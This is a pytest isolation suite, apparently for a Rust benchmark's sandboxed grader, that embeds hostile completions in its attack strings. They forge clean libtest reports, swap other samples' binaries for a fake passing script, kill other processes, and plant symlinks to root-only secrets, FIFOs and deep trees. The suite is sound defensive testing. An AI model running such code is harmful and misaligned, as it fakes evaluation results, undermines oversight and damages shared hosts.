"""Specification of isolation: a hostile completion gets neither through the boundary between the
sandbox and the root-side Python that judges it, nor through the one between samples of a batch.

Everything runs for real through the production entry points (`judge_records` for the batched
path, `batch_size=1` for the per-sample reference), for bubblewrap and firejail. The attacks are
generic: none names a file of today's executor layout. Each one discovers at run time what it can
reach — its own stdin/stdout/stderr (readlink of /proc/self/fd/N), its own binary
(/proc/self/exe), its cwd, TMPDIR (read from /proc/self/environ, not `std::env`, so the batch
keeps it in a shared launch), and the parents of those — walks that (bounded in depth and time),
tries its trick on everything it finds, ignores every error and still returns.

What must hold, whatever the layout:
- no root-only file and no part of the evaluator's environment reaches a stored verdict;
- a FIFO, a symlink or a deep tree the sandbox leaves behind never blocks, misleads or breaks the
  root side, and nothing outside the test's own directories changes;
- another sample of the batch is judged exactly as the per-sample path judges it alone, and no
  verdict a batch could have tampered with is served from the verdict cache.

The pools claim sandbox worker ids from 4300 up, clear of the ids other test modules use.
"""

from __future__ import annotations

import contextlib
import os
import resource
import secrets
import stat
import subprocess
import threading
import time
from pathlib import Path

import pytest

from tasks.config import ExecutorConfig
from tasks.evaluate import SandboxPool, judge_records
from tasks.schema import Problem, Protocol
from tasks.toolchain import find_toolchain
from tests.helpers import requires_root, temp_work_root

KINDS = ["bubblewrap", "firejail"]
FIRST_WORKER = 4300
SECRET_ENV = "FERRISBENCH_ISOLATION_SECRET"
SANDBOX_ENV_NAMES = {"PATH", "LANG", "TMPDIR", "RUST_BACKTRACE"}  # what a program is given
JUDGE_BOUND_S = 60.0  # one judge_records call of a handful of programs, on 2 busy cores
FILE_SIZE_GUARD = 512 << 20  # what the test process may write to one file (a root-side copy of /dev/zero)

pytestmark = requires_root


# --- problems: five small libtest tasks, so the victims of an attack are other tasks ----------------

def libtest_problem(task: str, prompt: str, entry_point: str, tests: dict[str, str]) -> Problem:
    body = "".join(f"\n    #[test]\n    fn {name}() {{\n        {check}\n    }}\n" for name, check in tests.items())
    return Problem(task_id=f"Isolation/{task}", prompt=prompt, test=f"#[cfg(test)]\nmod tests {{\n    use super::*;\n{body}}}\n",
                   entry_point=entry_point, protocol=Protocol.LIBTEST,
                   expected_tests=tuple(f"tests::{name}" for name in tests))


ADD = libtest_problem("add", "/// Adds two numbers.\nfn add(a: i64, b: i64) -> i64 {", "add",
                      {"test_add": "assert_eq!(add(2, 3), 5);", "test_negative": "assert_eq!(add(-1, 1), 0);"})
SORTED = libtest_problem("is_sorted", "/// True when `v` never decreases.\nfn is_sorted(v: &[i32]) -> bool {", "is_sorted",
                         {"test_sorted": "assert!(is_sorted(&[1, 2, 2, 5]));", "test_unsorted": "assert!(!is_sorted(&[3, 1]));"})
DOUBLE = libtest_problem("double", "/// Doubles x.\nfn double(x: i64) -> i64 {", "double",
                         {"test_two": "assert_eq!(double(2), 4);", "test_zero": "assert_eq!(double(0), 0);"})
MAX_OF = libtest_problem("max_of", "/// The largest element of a non-empty slice.\nfn max_of(v: &[i32]) -> i32 {", "max_of",
                         {"test_mixed": "assert_eq!(max_of(&[1, 5, 3]), 5);",
                          "test_negative": "assert_eq!(max_of(&[-4, -1]), -1);"})
VOWELS = libtest_problem("vowels", "/// How many of a, e, i, o, u `s` holds.\nfn vowels(s: &str) -> usize {", "vowels",
                         {"test_word": 'assert_eq!(vowels("banana"), 3);', "test_empty": 'assert_eq!(vowels(""), 0);'})
PROBLEMS = {p.task_id: p for p in (ADD, SORTED, DOUBLE, MAX_OF, VOWELS)}

RIGHT = {
    SORTED.task_id: "    v.windows(2).all(|w| w[0] <= w[1])\n}",
    DOUBLE.task_id: "    x * 2\n}",
    MAX_OF.task_id: "    *v.iter().max().unwrap()\n}",
    VOWELS.task_id: "    s.chars().filter(|c| \"aeiou\".contains(*c)).count()\n}",
}
# Honest wrong answers: each passes exactly one of its task's two tests when judged alone.
VICTIMS = [
    {"task_id": SORTED.task_id, "completion": "    let _ = v;\n    true\n}"},
    {"task_id": DOUBLE.task_id, "completion": "    x + 2\n}"},
    {"task_id": MAX_OF.task_id, "completion": "    v[v.len() - 1]\n}"},
    {"task_id": VOWELS.task_id, "completion": "    let _ = s;\n    0\n}"},
]
VICTIM_ALONE = [("failed_tests", 1)] * len(VICTIMS)  # what the per-sample path says of each (asserted below)


def right(problem: Problem) -> dict:
    return {"task_id": problem.task_id, "completion": RIGHT[problem.task_id]}


# --- the attacks' toolkit (Rust, appended after the attacker's answer) --------------------------

# Replaces a test binary: prints libtest's report of a clean run of whatever tests the real binary
# (moved aside to "$0.orig") lists for the filter it was given, and exits 0.
FAKE_BINARY = r"""#!/bin/sh
# FBK-FAKE: a clean libtest report for any test names
f=''
for a in "$@"; do case "$a" in -*) ;; *) f="$a";; esac; done
n=$("$0.orig" --list $f 2>/dev/null | sed -n 's/: test$//p')
c=$(printf '%s\n' "$n" | grep -c .)
if [ "$c" = 1 ]; then w=test; else w=tests; fi
printf '\nrunning %s %s\n' "$c" "$w"
printf '%s\n' "$n" | while IFS= read -r t; do [ -n "$t" ] && printf 'test %s ... ok\n' "$t"; done
printf '\ntest result: ok. %s passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\n\n' "$c"
exit 0
"""

KIT = r'''
#[allow(dead_code)]
const FBK_FAKE: &str = r##"FAKE_BINARY"##;

/// Regular files behind this process's descriptors 0..3 (its outputs, when they are files).
#[allow(dead_code)]
fn fbk_fd_files() -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for fd in 0..4 {
        if let Ok(target) = std::fs::read_link(format!("/proc/self/fd/{}", fd)) {
            if let Ok(meta) = std::fs::symlink_metadata(&target) {
                if meta.is_file() && !found.contains(&target) {
                    found.push(target);
                }
            }
        }
    }
    found
}

#[allow(dead_code)]
fn fbk_system(path: &std::path::Path) -> bool {
    ["/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/boot", "/run", "/etc"]
        .iter()
        .any(|s| path.starts_with(s))
}

/// Every directory this process can name (descriptors, binary, cwd, TMPDIR) and its parents, nearest first.
#[allow(dead_code)]
fn fbk_roots() -> Vec<std::path::PathBuf> {
    let mut near: Vec<std::path::PathBuf> = Vec::new();
    for file in fbk_fd_files() {
        if let Some(parent) = file.parent() {
            near.push(parent.to_path_buf());
        }
    }
    if let Ok(exe) = std::fs::read_link("/proc/self/exe") {
        if let Some(parent) = exe.parent() {
            near.push(parent.to_path_buf());
        }
    }
    if let Ok(cwd) = std::fs::read_link("/proc/self/cwd") {
        near.push(cwd);
    }
    if let Ok(environ) = std::fs::read("/proc/self/environ") {
        for var in environ.split(|b| *b == 0) {
            if let Some(value) = var.strip_prefix(b"TMPDIR=".as_slice()) {
                near.push(std::path::PathBuf::from(String::from_utf8_lossy(value).into_owned()));
            }
        }
    }
    let mut roots: Vec<std::path::PathBuf> = Vec::new();
    for level in 0..6 {
        for start in &near {
            let mut path = start.clone();
            let mut reached = true;
            for _ in 0..level {
                reached &= path.pop();
            }
            if reached && path.is_absolute() && path.parent().is_some() && !fbk_system(&path) && !roots.contains(&path) {
                roots.push(path);
            }
        }
    }
    roots
}

/// Breadth-first over everything under the roots (depth 4, `budget_ms`), calling `visit` on each entry.
#[allow(dead_code)]
fn fbk_walk(budget_ms: u64, mut visit: impl FnMut(&std::path::Path, &std::fs::Metadata)) {
    let started = std::time::Instant::now();
    let mut seen = std::collections::HashSet::new();
    let mut queue: std::collections::VecDeque<(std::path::PathBuf, u32)> =
        fbk_roots().into_iter().map(|root| (root, 0)).collect();
    let mut entries = 0u32;
    while let Some((dir, depth)) = queue.pop_front() {
        if started.elapsed() > std::time::Duration::from_millis(budget_ms) || entries > 50_000 {
            break;
        }
        if !seen.insert(dir.clone()) {
            continue;
        }
        let Ok(listing) = std::fs::read_dir(&dir) else { continue };
        for entry in listing.flatten() {
            entries += 1;
            let path = entry.path();
            let Ok(meta) = std::fs::symlink_metadata(&path) else { continue };
            if meta.is_dir() && depth < 4 && !fbk_system(&path) {
                queue.push_back((path.clone(), depth + 1));
            }
            visit(&path, &meta);
        }
    }
}

#[allow(dead_code)]
fn fbk_executable(meta: &std::fs::Metadata) -> bool {
    use std::os::unix::fs::PermissionsExt;
    meta.is_file() && meta.permissions().mode() & 0o111 != 0
}

#[allow(dead_code)]
fn fbk_uid(status: &str) -> Option<String> {
    let text = std::fs::read_to_string(status).ok()?;
    text.lines().find(|l| l.starts_with("Uid:"))?.split_whitespace().nth(1).map(|s| s.to_string())
}

/// kill -9 every process of another uid that /proc shows.
#[allow(dead_code)]
fn fbk_kill_other_uids() {
    let mine = fbk_uid("/proc/self/status");
    let mut pids = Vec::new();
    if let Ok(listing) = std::fs::read_dir("/proc") {
        for entry in listing.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.is_empty() || !name.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let uid = fbk_uid(&format!("/proc/{}/status", name));
            if uid.is_some() && uid != mine {
                pids.push(name);
            }
        }
    }
    if !pids.is_empty() {
        let _ = std::process::Command::new("kill").arg("-9").args(&pids)
            .stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).status();
    }
}

/// The test names a binary lists (`--list`).
#[allow(dead_code)]
fn fbk_list(binary: &std::path::Path) -> Vec<String> {
    match std::process::Command::new(binary).arg("--list").stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::null()).output() {
        Ok(out) => String::from_utf8_lossy(&out.stdout).lines()
            .filter_map(|l| l.strip_suffix(": test")).map(|s| s.to_string()).collect(),
        Err(_) => Vec::new(),
    }
}

/// An output that holds libtest lines becomes libtest's report of a clean run of those tests (all
/// of its module's tests a binary lists); one that holds a panic message is emptied.
#[allow(dead_code)]
fn fbk_forge(path: &std::path::Path, lists: &[Vec<String>]) {
    let Ok(text) = std::fs::read_to_string(path) else { return };
    if text.len() > 1 << 20 {
        return;
    }
    let names: Vec<String> = text.lines().filter_map(|l| l.strip_prefix("test "))
        .filter_map(|l| l.split(" ... ").next()).filter(|n| !n.contains(' ') && !n.is_empty())
        .map(|n| n.to_string()).collect();
    if names.is_empty() {
        if text.contains("panicked") {
            let _ = std::fs::write(path, b"");
        }
        return;
    }
    let module = names[0].split("::").next().unwrap_or("").to_string();
    let mut all: Vec<String> = Vec::new();
    for list in lists {
        if names.iter().all(|n| list.contains(n)) {
            all = list.iter().filter(|n| module == "tests" || n.starts_with(&format!("{}::", module))).cloned().collect();
            break;
        }
    }
    if all.is_empty() {
        all = names;
    }
    let count = all.len();
    let mut report = format!("\nrunning {} test{}\n", count, if count == 1 { "" } else { "s" });
    for name in &all {
        report.push_str(&format!("test {} ... ok\n", name));
    }
    report.push_str(&format!("\ntest result: ok. {} passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; \
                              finished in 0.00s\n\n", count));
    let _ = std::fs::write(path, report);
}

/// Kill other uids; replace every executable reachable with the fake (the real one moved to
/// NAME.orig); forge or empty every output reachable.
#[allow(dead_code)]
fn fbk_tamper() {
    use std::os::unix::fs::PermissionsExt;
    fbk_kill_other_uids();
    let own = fbk_fd_files();
    let mut handled: std::collections::HashSet<std::path::PathBuf> = std::collections::HashSet::new();
    let mut lists: Vec<Vec<String>> = Vec::new();
    let mut outputs: Vec<std::path::PathBuf> = Vec::new();
    fbk_walk(80, |path, meta| {
        if handled.contains(path) || own.iter().any(|o| o == path) || !meta.is_file() {
            return;
        }
        if path.to_string_lossy().ends_with(".orig") {
            return;
        }
        if fbk_executable(meta) {
            let orig = std::path::PathBuf::from(format!("{}.orig", path.display()));
            if std::fs::rename(path, &orig).is_ok() {
                handled.insert(path.to_path_buf());
                handled.insert(orig.clone());
                if std::fs::write(path, FBK_FAKE).is_ok() {
                    let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755));
                }
                lists.push(fbk_list(&orig));
            }
        } else {
            outputs.push(path.to_path_buf());
        }
    });
    for path in outputs.iter().take(2000) {
        fbk_forge(path, &lists);
    }
}
'''.replace("FAKE_BINARY", FAKE_BINARY)

# The same tampering by a spawned shell (find/mv/cp/ln/kill), plus a background process (setsid)
# that keeps at it while the rest of the batch runs.
SHELL_TAMPER = r'''
me=$(id -u)
if [ "$1" = once ]; then
  near="$(pwd) $TMPDIR"
  exe=$(readlink /proc/$PPID/exe 2>/dev/null) && near="$near ${exe%/*}"
  own=""
  for fd in 0 1 2 3; do
    t=$(readlink /proc/$PPID/fd/$fd 2>/dev/null) || continue
    case "$t" in /*) if [ -f "$t" ]; then own="$own $t"; near="$near ${t%/*}"; fi;; esac
  done
  roots=""
  for p in $near; do
    i=0
    while [ -n "$p" ] && [ "$p" != / ] && [ $i -lt 4 ]; do
      case "$p" in /proc*|/sys*|/dev*|/usr*|/run*|/etc*|/bin*|/lib*|/sbin*|/boot*) ;;
        *) case " $roots " in *" $p "*) ;; *) roots="$roots $p";; esac;; esac
      p=${p%/*}; i=$((i+1))
    done
  done
  export FBK_ROOTS="$roots" FBK_OWN="$own"
fi
tamper() {
  for d in $FBK_ROOTS; do
    fake="$d/.fbk-fake"
    [ -f "$fake" ] || { printf '%s' "$FBK_FAKE" > "$fake" 2>/dev/null && chmod 755 "$fake" 2>/dev/null; }
    find "$d" -maxdepth 3 -type f -perm -u+x ! -name '*.orig' ! -name '.fbk-fake' 2>/dev/null | head -n 200 |
    while IFS= read -r b; do
      grep -q FBK-FAKE "$b" 2>/dev/null && continue
      mv -f "$b" "$b.orig" 2>/dev/null || continue
      cp "$fake" "$b" 2>/dev/null || ln -sf "$fake" "$b" 2>/dev/null
      chmod 755 "$b" 2>/dev/null
    done
    find "$d" -maxdepth 3 -type f ! -perm -u+x -size -1024k 2>/dev/null | head -n 500 |
    while IFS= read -r f; do
      case " $FBK_OWN " in *" $f "*) continue;; esac
      if grep -q -e '^test .* \.\.\. ' "$f" 2>/dev/null; then : > "$f" 2>/dev/null
      elif grep -q panicked "$f" 2>/dev/null; then ln -sf /dev/null "$f" 2>/dev/null; fi
    done
  done
  for p in /proc/[0-9]*; do
    u=$(sed -n 's/^Uid:[[:space:]]*\([0-9]*\).*/\1/p' "$p/status" 2>/dev/null)
    [ -n "$u" ] && [ "$u" != "$me" ] && kill -9 "${p#/proc/}" 2>/dev/null
  done
}
if [ "$1" = loop ]; then
  i=0
  while [ $i -lt 60 ]; do tamper; sleep 0.05; i=$((i+1)); done
  exit 0
fi
setsid sh -c "$FBK_SH" fbk loop </dev/null >/dev/null 2>&1 &
tamper
exit 0
'''

# A tree 3000 directories deep (mkdir -p of 1000 levels, three times), in the cwd and in TMPDIR.
DEEP_TREE = ("p=$(printf 'd/%.0s' $(seq 1000)); "
             'for base in . "$TMPDIR"; do (cd "$base" && for i in 1 2 3; do mkdir -p "$p" && cd "$p" || break; done); done')


def attacker(body: str, answer: str = "a + b") -> dict:
    """A completion of ADD: `body` (the attack), then `answer`, then the toolkit."""
    return {"task_id": ADD.task_id, "completion": f"    {body}\n    {answer}\n}}\n{KIT}"}


def rust_str(text: str) -> str:
    return "r##\"" + text + "\"##"


def symlinked_outputs(target: str) -> dict:
    """Replaces its own output files with symlinks to `target`, prints, and fails its tests."""
    return attacker(
        "for path in fbk_fd_files() {\n"
        "        let _ = std::fs::remove_file(&path);\n"
        f"        let _ = std::os::unix::fs::symlink({rust_str(target)}, &path);\n"
        "    }\n"
        '    println!("outputs replaced");',
        answer='panic!("an attacker that fails its tests")')


FIFO_OUTPUTS = attacker(
    "for path in fbk_fd_files() {\n"
    "        let _ = std::fs::remove_file(&path);\n"
    '        let _ = std::process::Command::new("mkfifo").arg(&path).status();\n'
    "    }")


def symlinked_binary(target: str) -> dict:
    """Moves its own binary and every other one it finds aside, leaves a symlink to `target` in
    each one's place, and outlives the batch deadline; answers right."""
    return attacker(
        "let mut binaries = Vec::new();\n"
        '    if let Ok(exe) = std::fs::read_link("/proc/self/exe") { binaries.push(exe); }\n'
        "    fbk_walk(80, |path, meta| if fbk_executable(meta) { binaries.push(path.to_path_buf()) });\n"
        "    for (n, binary) in binaries.iter().enumerate() {\n"
        '        if std::fs::rename(binary, format!("{}.aside-{}", binary.display(), n)).is_ok() {\n'
        f"            let _ = std::os::unix::fs::symlink({rust_str(target)}, binary);\n"
        "        }\n"
        "    }\n"
        "    std::thread::sleep(std::time::Duration::from_millis(500));")


TAMPERS_BY_STD_FS = attacker("fbk_tamper();")
TAMPERS_BY_SHELL = attacker(
    f"let script = {rust_str(SHELL_TAMPER)};\n"
    '    let spawned = std::process::Command::new("/bin/sh").arg("-c").arg(script).arg("fbk").arg("once")\n'
    '        .env("FBK_SH", script).env("FBK_FAKE", FBK_FAKE).stdin(std::process::Stdio::null()).spawn();\n'
    "    if let Ok(mut shell) = spawned {\n"
    "        let started = std::time::Instant::now();\n"
    "        while matches!(shell.try_wait(), Ok(None)) && started.elapsed() < std::time::Duration::from_secs(1) {\n"
    "            std::thread::sleep(std::time::Duration::from_millis(10));\n"
    "        }\n"
    "        let _ = shell.kill();\n"
    "        let _ = shell.wait();\n"
    "    }")
ATTACKERS = {"std_fs": TAMPERS_BY_STD_FS, "spawned_shell": TAMPERS_BY_SHELL}


def litter_body(canary: Path) -> str:
    """In every directory it can write: symlinks to /root, /etc and host files (also under the
    names the root side may create next: the digits of each name it sees, counted up), a FIFO,
    a unix socket."""
    return (
        "let mut dirs = fbk_roots();\n"
        "    fbk_walk(80, |path, meta| if meta.is_dir() { dirs.push(path.to_path_buf()) });\n"
        "    for dir in dirs.iter().take(300) {\n"
        f'        for (name, target) in [("to-root", "/root"), ("to-etc", "/etc"), ("to-canary", {rust_str(str(canary))}),\n'
        '                               ("to-hostname", "/etc/hostname")] {\n'
        "            let _ = std::os::unix::fs::symlink(target, dir.join(name));\n"
        "        }\n"
        "        if let Ok(listing) = std::fs::read_dir(dir) {\n"
        "            for entry in listing.flatten() {\n"
        "                let name = entry.file_name().to_string_lossy().into_owned();\n"
        "                let digits: String = name.chars().filter(|c| c.is_ascii_digit()).collect();\n"
        "                if let Ok(n) = digits.parse::<u64>() {\n"
        "                    for next in [n + 1, n + 2] {\n"
        "                        let guess = name.replacen(&digits, &next.to_string(), 1);\n"
        f"                        let _ = std::os::unix::fs::symlink({rust_str(str(canary))}, dir.join(guess));\n"
        "                    }\n"
        "                }\n"
        "            }\n"
        "        }\n"
        '        let _ = std::process::Command::new("mkfifo").arg(dir.join("fifo")).status();\n'
        '        let _ = std::os::unix::net::UnixListener::bind(dir.join("sock"));\n'
        "    }\n"
        '    let _ = std::os::unix::net::UnixListener::bind("sock");\n    ')


def litters(canary: Path) -> dict:
    """Litters (`litter_body`), then grows a tree 3000 directories deep; answers right."""
    return attacker(litter_body(canary)
                    + f'let _ = std::process::Command::new("/bin/sh").arg("-c").arg({rust_str(DEEP_TREE)}).status();')


def kills_its_launcher(canary: Path) -> dict:
    """Plants symlinks to a host file under the names the root side may create next (as
    `litter_body`, in the directories it can name), then kills every other process of its own uid
    (whatever launched it) and goes on; answers right."""
    return attacker(
        "for dir in fbk_roots() {\n"
        "        let Ok(listing) = std::fs::read_dir(&dir) else { continue };\n"
        "        for entry in listing.flatten() {\n"
        "            let name = entry.file_name().to_string_lossy().into_owned();\n"
        "            let digits: String = name.chars().filter(|c| c.is_ascii_digit()).collect();\n"
        "            if let Ok(n) = digits.parse::<u64>() {\n"
        "                for next in [n + 1, n + 2] {\n"
        "                    let guess = name.replacen(&digits, &next.to_string(), 1);\n"
        f"                    let _ = std::os::unix::fs::symlink({rust_str(str(canary))}, dir.join(guess));\n"
        "                }\n"
        "            }\n"
        "        }\n"
        "    }\n"
        '    let me = std::fs::read_link("/proc/self").map(|p| p.to_string_lossy().into_owned()).unwrap_or_default();\n'
        '    let mine = fbk_uid("/proc/self/status");\n'
        "    let mut others = Vec::new();\n"
        '    if let Ok(listing) = std::fs::read_dir("/proc") {\n'
        "        for entry in listing.flatten() {\n"
        "            let name = entry.file_name().to_string_lossy().into_owned();\n"
        "            if !name.is_empty() && name.bytes().all(|b| b.is_ascii_digit()) && name != me\n"
        '                && fbk_uid(&format!("/proc/{}/status", name)) == mine { others.push(name); }\n'
        "        }\n"
        "    }\n"
        '    let _ = std::process::Command::new("kill").arg("-9").args(&others).status();\n'
        "    std::thread::sleep(std::time::Duration::from_millis(300));")


# --- fixtures and helpers ---------------------------------------------------------------------

@pytest.fixture(scope="module")
def toolchain():
    return find_toolchain()


def _emptied_work_root():
    """A sandbox work root for a module or test; whatever a bug left in it (even a tree too deep
    for shutil.rmtree) is removed with rm -rf before the helper removes the root."""
    for root in temp_work_root("ferrisbench-isolation-test-"):
        try:
            yield root
        finally:
            for child in list(root.iterdir()):
                subprocess.run(["rm", "-rf", "--one-file-system", "--", str(child)], check=False)


@pytest.fixture(scope="module")
def work_root():
    yield from _emptied_work_root()


@pytest.fixture(scope="module", params=KINDS)
def kind(request):
    return request.param


@pytest.fixture(scope="module")
def host():
    """A root-only secret file and a canary under /root, and a secret in the evaluator's
    environment, for the whole module."""
    token, env_token, tag = secrets.token_hex(16), secrets.token_hex(16), secrets.token_hex(4)
    secret = Path(f"/root/.ferrisbench-isolation-secret-{tag}")
    canary = Path(f"/root/.ferrisbench-isolation-canary-{tag}")
    # A shell line: should the root side ever hand the sandbox this file as a program, it prints the token.
    secret.write_text(f"echo SECRET-{token}\n")
    secret.chmod(0o600)
    canary.write_text(f"canary {tag}\n")
    canary.chmod(0o600)
    previous = os.environ.get(SECRET_ENV)
    os.environ[SECRET_ENV] = f"SECRET-{env_token}"
    try:
        yield {"token": token, "env_token": env_token, "secret": secret, "canary": canary}
    finally:
        secret.unlink(missing_ok=True)
        canary.unlink(missing_ok=True)
        if previous is None:
            os.environ.pop(SECRET_ENV, None)
        else:
            os.environ[SECRET_ENV] = previous


def evaluator_environment_names() -> set[str]:
    """Names in this process's own environment block (what /proc/self/environ shows the root side)."""
    block = Path("/proc/self/environ").read_bytes()
    names = {entry.split(b"=", 1)[0].decode("ascii", "replace") for entry in block.split(b"\0") if b"=" in entry}
    return {n for n in names if len(n) >= 3 and n not in SANDBOX_ENV_NAMES}


def config_for(kind: str, work_root: Path, cache_dir: Path, batch_size: int = 32) -> ExecutorConfig:
    return ExecutorConfig(sandbox=kind, workers=1, batch_size=batch_size, verdict_cache=True,
                          verdict_cache_dir=cache_dir, batch_deadline_s=0.1, run_timeout_s=3, compile_timeout_s=15,
                          work_root=work_root)


@contextlib.contextmanager
def file_size_guard():
    """While the root side judges hostile programs, no file it writes may grow past
    FILE_SIZE_GUARD (a copy of /dev/zero would otherwise fill the disk of a shared machine)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_GUARD, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


def fifos_under(root: Path, depth: int = 12) -> list[Path]:
    found, stack = [], [(root, 0)]
    while stack:
        directory, level = stack.pop()
        try:
            entries = list(os.scandir(directory))
        except OSError:
            continue
        for entry in entries:
            try:
                mode = entry.stat(follow_symlinks=False).st_mode
            except OSError:
                continue
            if stat.S_ISFIFO(mode):
                found.append(Path(entry.path))
            elif stat.S_ISDIR(mode) and level < depth:
                stack.append((Path(entry.path), level + 1))
    return found


def judge(records: list[dict], kind: str, work_root: Path, cache_dir: Path, toolchain, batch_size: int = 32):
    """(judged, seconds) of one judge_records call with a pool of its own. A call still running after
    JUDGE_BOUND_S fails the test; first the test opens (for writing) and closes every FIFO under
    the work root, so a root-side reader blocked on one gets EOF and the module can go on."""
    config = config_for(kind, work_root, cache_dir, batch_size)
    box: dict = {}

    def call():
        try:
            with file_size_guard(), SandboxPool(config, toolchain, first_worker=FIRST_WORKER) as pool:
                box["judged"] = judge_records(records, PROBLEMS, config, pool, toolchain)
        except BaseException as error:  # noqa: BLE001 - re-raised in the test's thread
            box["error"] = error

    started = time.monotonic()
    thread = threading.Thread(target=call, daemon=True)
    thread.start()
    thread.join(JUDGE_BOUND_S)
    seconds = time.monotonic() - started
    if thread.is_alive():
        rescue_until = time.monotonic() + 120
        while thread.is_alive() and time.monotonic() < rescue_until:
            for fifo in fifos_under(work_root):
                try:
                    os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
                except OSError:
                    pass
            thread.join(0.2)
        pytest.fail(f"judge_records did not return within {JUDGE_BOUND_S:.0f} s (blocked; "
                    f"{'released by opening its FIFOs' if not thread.is_alive() else 'still blocked'})")
    if "error" in box:
        raise box["error"]
    return box["judged"], seconds


def verdicts(judged, mode: str = "no_policy") -> list[tuple[str, int]]:
    return [(j.execution.for_mode(mode).status.value, j.execution.for_mode(mode).tests_passed) for j in judged]


def statuses(judged, mode: str = "no_policy") -> list[str]:
    return [j.execution.for_mode(mode).status.value for j in judged]


def stored_text(judged) -> str:
    """Everything a result row stores of these verdicts, both policy modes."""
    return repr([(j.execution.for_mode(m).to_row(), j.execution.violations, j.verdict_source)
                 for j in judged for m in ("no_policy", "policy")])


HOST_DIRS = ("/root", "/etc", "/var/tmp", "/dev/shm")


def host_state(exclude: tuple[Path, ...]) -> dict:
    """Owner and mode of the top-level host dirs, and of every entry directly in HOST_DIRS (size
    and mtime for files), plus /etc/hostname's content; `exclude` (the test's own files) apart."""
    state = {}
    for top in ("/", "/root", "/etc", "/var", "/var/lib", "/var/tmp", "/tmp", "/dev/shm"):
        st = os.lstat(top)
        state[top] = (st.st_uid, st.st_gid, st.st_mode)
    for top in HOST_DIRS:
        for entry in os.scandir(top):
            if Path(entry.path) in exclude:
                continue
            st = entry.stat(follow_symlinks=False)
            regular = stat.S_ISREG(st.st_mode)
            state[entry.path] = (st.st_uid, st.st_gid, st.st_mode, st.st_size if regular else None,
                                 st.st_mtime_ns if regular else None)
    state["/etc/hostname content"] = Path("/etc/hostname").read_bytes() if os.path.exists("/etc/hostname") else None
    return state


def own_file_state(path: Path) -> tuple:
    st = os.lstat(path)
    return (st.st_uid, st.st_gid, st.st_mode, st.st_mtime_ns, path.read_bytes())


def leftovers(work_root: Path) -> list[str]:
    """What a work root holds besides its empty per-worker dirs, firejail's toolchain mount point and
    the executor's job runner."""
    found = []
    for child in work_root.iterdir():
        if child.name in (".toolchain", ".tools"):
            continue
        if child.is_dir() and not child.is_symlink():
            found += [str(p) for p in child.iterdir()]
        else:
            found.append(str(child))
    return sorted(found)


# --- 1. output files replaced by symlinks ------------------------------------------------------

def test_outputs_replaced_by_symlinks_to_a_root_only_file_or_the_evaluators_environ_leak_nothing(
        kind, toolchain, work_root, host, tmp_path):
    records = [VICTIMS[0], symlinked_outputs(str(host["secret"])), symlinked_outputs("/proc/self/environ"),
               VICTIMS[1]]
    names = evaluator_environment_names()
    judged, _ = judge(records, kind, work_root, tmp_path / "cache", toolchain)
    stored = stored_text(judged)
    assert host["token"] not in stored
    assert host["env_token"] not in stored
    assert "\\x00" not in stored and "\0" not in stored  # no environment block, whoever's
    assert sorted(n for n in names if f"{n}=" in stored) == []
    # Alone, their outputs are what they print; both panic: failed_tests, and a policy violation with the policy.
    assert verdicts(judged) == [("failed_tests", 1), ("failed_tests", 0), ("failed_tests", 0), ("failed_tests", 1)]
    assert statuses(judged, "policy") == ["failed_tests", "policy_violation", "policy_violation", "failed_tests"]


# --- 2. output files replaced by FIFOs ---------------------------------------------------------

@pytest.mark.timeout(300)
def test_outputs_replaced_by_fifos_block_nothing_and_every_record_gets_its_verdict(
        kind, toolchain, work_root, host, tmp_path):
    records = [VICTIMS[0], FIFO_OUTPUTS, VICTIMS[1], right(MAX_OF)]
    judged, seconds = judge(records, kind, work_root, tmp_path / "cache", toolchain)
    assert seconds < JUDGE_BOUND_S
    assert len(judged) == len(records)
    assert host["token"] not in stored_text(judged)
    # The attacker answers right and its own run is unaffected by what became of its output
    # files: the per-sample path (outputs through pipes) says passed, and so must the batch.
    assert verdicts(judged) == [("failed_tests", 1), ("passed", 2), ("failed_tests", 1), ("passed", 2)]
    assert statuses(judged, "policy") == ["failed_tests", "policy_violation", "failed_tests", "passed"]


# --- 3. binary swapped for a symlink, then the batch deadline outlived -------------------------

@pytest.mark.timeout(300)
@pytest.mark.parametrize("target", ["secret", "dev_zero"])
def test_a_binary_swapped_for_a_symlink_is_never_followed_when_a_program_outlives_the_batch_deadline(
        kind, target, toolchain, work_root, host, tmp_path):
    link_to = str(host["secret"]) if target == "secret" else "/dev/zero"
    records = [symlinked_binary(link_to), right(SORTED), right(DOUBLE)]
    own = (host["secret"], host["canary"])
    before, secret_before, canary_before = host_state(own), own_file_state(host["secret"]), own_file_state(host["canary"])
    batched, seconds = judge(records, kind, work_root, tmp_path / "batched", toolchain)
    alone, _ = judge(records, kind, work_root, tmp_path / "alone", toolchain, batch_size=1)
    assert host["token"] not in stored_text(batched)
    assert host["token"] not in stored_text(alone)
    assert host_state(own) == before
    assert (own_file_state(host["secret"]), own_file_state(host["canary"])) == (secret_before, canary_before)
    assert seconds < 30
    held = work_root / "held"
    assert not held.exists() or list(held.iterdir()) == []
    # It sleeps 0.5 s (past the 0.1 s batch deadline, well inside the 3 s run timeout) and answers
    # right: alone it passes, so run again from its real binary it passes too.
    assert verdicts(alone) == [("passed", 2), ("passed", 2), ("passed", 2)]
    assert verdicts(batched) == verdicts(alone)
    assert statuses(batched, "policy") == ["policy_violation", "passed", "passed"]


# --- 4-7. another sample's binary, outputs and processes ---------------------------------------

def batch_with(attack: dict) -> list[dict]:
    """Two victims judged before the attacker, two after (in the order a batch gets them)."""
    return [VICTIMS[0], VICTIMS[1], attack, VICTIMS[2], VICTIMS[3]]


@pytest.fixture(scope="module")
def tampering(kind, toolchain, work_root, host, tmp_path_factory):
    """Per sandbox: each attacker in a batch with four victims (verdict cache on), the four victims
    judged again from that cache with a new pool, and every record judged alone (per-sample path)."""
